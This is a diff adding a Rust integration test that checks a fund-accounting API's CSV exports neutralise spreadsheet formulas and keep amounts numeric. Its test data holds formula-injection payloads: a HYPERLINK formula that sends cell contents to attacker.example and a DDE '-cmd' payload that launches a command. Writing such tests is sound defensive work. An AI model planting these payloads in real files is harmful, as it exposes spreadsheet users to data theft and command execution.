@@ -3,8 +3,9 @@
 
 mod common;
 
-use common::TestApp;
+use common::{created, id, TestApp};
 use futures_util::stream::{self, StreamExt};
+use serde_json::json;
 
 /// Unknown paths an anonymous client sends.
 const UNKNOWN_PATHS: usize = 20_000;
@@ -43,4 +44,54 @@ async fn metrics_stay_bounded_whatever_paths_are_requested(app: TestApp) {
     assert!(!metrics.text.contains(&fund), "no id in a label");
 }
 
-on_both_backends!(metrics_stay_bounded_whatever_paths_are_requested);
+/// CSV records of an export, the `#` preamble skipped, as (header, value) maps.
+async fn csv_export(app: &TestApp, fund: &str, name: &str) -> Vec<std::collections::BTreeMap<String, String>> {
+    let reply = app.get(&format!("/api/v1/funds/{fund}/exports/{name}?as_of=2030-12-31"), &app.auditor()).await;
+    assert_eq!(reply.status, 200, "{}", reply.text);
+    let mut reader = csv::ReaderBuilder::new().comment(Some(b'#')).from_reader(reply.text.as_bytes());
+    let headers = reader.headers().expect("header row").clone();
+    reader
+        .records()
+        .map(|r| headers.iter().zip(r.expect("record").iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect())
+        .collect()
+}
+
+async fn csv_exports_neutralise_formulas_and_keep_amounts_numbers(app: TestApp) {
+    let fund = app.create_fund("Injection").await;
+    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")";
+    let body = json!({"effective_date": "2025-01-01", "description": formula, "postings": [
+        {"account": "1000", "debit": "100.00", "memo": "+1+1"}, {"account": "3900", "credit": "100.00", "memo": "@SUM(A1:A9)"}]});
+    created(&app, &format!("/api/v1/funds/{fund}/journal-entries"), body).await;
+    let rows = csv_export(&app, &fund, "journal.csv").await;
+    assert_eq!(rows.len(), 2);
+    assert!(rows.iter().all(|r| r["description"] == format!("'{formula}")), "{rows:?}");
+    assert_eq!(rows[0]["memo"], "'+1+1");
+    assert_eq!(rows[1]["memo"], "'@SUM(A1:A9)");
+    assert_eq!((rows[0]["debit"].as_str(), rows[1]["credit"].as_str()), ("100.00", "100.00"), "amounts stay numbers");
+    // A negative amount is a number, not a formula: the trial balance's net of a credit.
+    let source = created(
+        &app,
+        "/api/v1/sources",
+        json!({"kind": "private", "legal_name": "-cmd|' /C calc'!A0", "country": "FR"}),
+    )
+    .await;
+    let tranche = created(
+        &app,
+        &format!("/api/v1/funds/{fund}/tranches"),
+        json!({"name": "=1+1", "seniority": 1, "target_size": "1000.00", "pref_rate": "0"}),
+    )
+    .await;
+    created(&app, &format!("/api/v1/funds/{fund}/commitments"), json!({"source_id": id(&source), "tranche_id": id(&tranche), "amount": "500.00", "effective_date": "2025-01-01"})).await;
+    let balances = csv_export(&app, &fund, "trial-balance.csv").await;
+    let equity = balances.iter().find(|r| r["account_code"] == "3900").expect("3900");
+    assert_eq!(equity["net"], "-100.00", "{equity:?}");
+    let capital = csv_export(&app, &fund, "capital-accounts.csv").await;
+    assert_eq!(capital[0]["investor_name"], "'-cmd|' /C calc'!A0");
+    assert_eq!(capital[0]["tranche_name"], "'=1+1");
+    assert_eq!(capital[0]["committed"], "500.00");
+}
+
+on_both_backends!(
+    metrics_stay_bounded_whatever_paths_are_requested,
+    csv_exports_neutralise_formulas_and_keep_amounts_numbers
+);
